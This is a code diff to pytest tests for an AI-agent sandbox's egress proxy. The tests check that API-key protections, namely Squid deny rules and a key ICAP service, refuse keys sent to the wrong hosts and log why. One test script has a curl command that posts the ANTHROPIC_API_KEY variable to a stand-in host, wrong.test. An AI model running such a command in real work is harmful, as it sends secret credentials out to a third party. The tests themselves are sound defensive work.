@@ -149,12 +149,29 @@ def _plan(engine, workspace, tmp_path, certs, network):  # noqa: F811
                           command=("/.sandbox/probe/busybox", "touch", "/workspace/AGENT-RAN"))
 
 
-def _without_key_check(plan):
+def _without_lines(plan, *lines):
     from dataclasses import replace
 
-    line = "http_access deny !keys_connect !keys_ok\n"
-    assert line in plan.proxy.config
-    return replace(plan, proxy=replace(plan.proxy, config=plan.proxy.config.replace(line, "")))
+    config = plan.proxy.config
+    for line in lines:
+        assert line in config
+        config = config.replace(line, "")
+    return replace(plan, proxy=replace(plan.proxy, config=config))
+
+
+# both lines: with only the deny line left, Squid applies the service to what it does not match
+ICAP_LINE = "adaptation_access sandbox_keys_icap deny keys_connect\nadaptation_access sandbox_keys_icap allow all\n"
+
+
+def _without_key_check(plan):
+    # two protections refuse a placeholder in the key's header sent elsewhere: the key helper's deny
+    # line and the key ICAP service; either alone holds (egress.key_hidden proves the service's)
+    return _without_lines(plan, "http_access deny !keys_connect !keys_ok\n", ICAP_LINE)
+
+
+def _without_key_icap(plan):
+    # no request goes to the key ICAP service: a placeholder in another header goes on unseen
+    return _without_lines(plan, ICAP_LINE)
 
 
 def _another_placeholder(plan):
@@ -164,7 +181,8 @@ def _another_placeholder(plan):
     return replace(plan, container=replace(plan.container, env=env))
 
 
-KEY_TAMPERS = {"egress.key_refused": _without_key_check, "env.secrets": _another_placeholder}
+KEY_TAMPERS = {"egress.key_refused": _without_key_check, "egress.key_hidden": _without_key_icap,
+               "env.secrets": _another_placeholder}
 
 
 @pytest.mark.parametrize("check", [None, *KEY_TAMPERS])
@@ -178,10 +196,11 @@ def test_a_removed_key_protection_fails_its_check_and_the_agent_never_runs(engin
     monkeypatch.setenv("SANDBOX_TEST_BOUND_KEY", "real-bound-key-" + os.urandom(8).hex())
     plan = _plan(engine, workspace, tmp_path, certs, upstream[0])
     assert plan.probe.keyrefuse == "Authorization@wrong.test:8443/sandbox-probe-key", plan.probe.keyrefuse
+    assert plan.probe.keyhidden == "GET@api.test:443/v1/sandbox-probe-key", plan.probe.keyhidden
     if check is None:   # the control: untampered, every check passes and the agent runs
         outcome = launch.run(engine, plan, Recorder())
         assert outcome.probe.ok and (workspace / "AGENT-RAN").exists()
-        assert {"egress.key_refused", "env.secrets"} <= {c.id for c in outcome.probe.checks}
+        assert {"egress.key_refused", "egress.key_hidden", "env.secrets"} <= {c.id for c in outcome.probe.checks}
         assert "sandbox-probe-key" not in upstream[1]()   # refused by the proxy itself
         return
     with pytest.raises(ProbeFailed) as info:
@@ -208,8 +227,9 @@ def test_with_the_key_icap_service_gone_requests_are_refused_not_sent_unchecked(
               'for i in $(seq 300); do [ -e /workspace/go ] && break; sleep 0.1; done; '
               f'echo "second=$({curl} https://wrong.test:8443/v1/icapsecond)"; '
               f'echo "third=$({curl} --data "k=$ANTHROPIC_API_KEY" https://wrong.test:8443/v1/icapthird)"')
+    report = tmp_path / "report.json"
     proc = subprocess.Popen(SANDBOX + ["run", "-p", str(policy), "-w", str(workspace), "--egress-network", network,
-                                       "--", "bash", "-c", script], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
+                                       "--report", str(report), "--", "bash", "-c", script], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                             text=True, env={**os.environ, "SANDBOX_TEST_BOUND_KEY": "real-bound-key-" + os.urandom(8).hex()})
     try:
         assert proc.stdout.readline().strip() == "first=200"
@@ -229,3 +249,8 @@ def test_with_the_key_icap_service_gone_requests_are_refused_not_sent_unchecked(
     assert second not in ("200", "000") and third not in ("200", "000"), out
     log = upstream_log()
     assert "icapfirst" in log and "icapsecond" not in log and "icapthird" not in log, log
+    requests = {r["path"]: r for r in json.loads(report.read_text())["egress"]["requests"]}
+    for path in ("/v1/icapsecond", "/v1/icapthird"):   # logged as refused, with why
+        assert requests[path]["decision"] == "refused", requests[path]
+        assert requests[path]["reason"] == "refused: the key ICAP service did not answer", requests[path]
+    assert requests["/v1/icapfirst"]["decision"] == "allowed"
